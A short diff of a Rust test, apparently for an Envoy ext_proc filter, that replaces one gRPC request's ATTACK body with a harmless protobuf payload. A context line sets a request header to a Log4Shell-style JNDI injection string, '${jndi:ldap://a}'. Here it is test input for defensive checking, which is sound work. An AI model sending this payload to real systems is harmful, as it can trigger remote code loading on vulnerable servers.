@@ -59,7 +59,7 @@ fn receipts_are_those_of_ext_proc() {
         Request::post("/echo", FORM, ATTACK).header("x-note", "winter ".repeat(1_500)),
         Request::post("/echo", FORM, "name=Jo").header("x-note", "winter ".repeat(1_500)),
         // Envoy answers in the words of gRPC, whatever the rules take it for.
-        Request::post("/echo", "application/grpc+proto", ATTACK)
+        Request::post("/echo", "application/grpc+proto", "\0\0\0\0\x06\n\x04fine")
             .header("x-note", "${jndi:ldap://a}"),
     ];
     for request in rows {
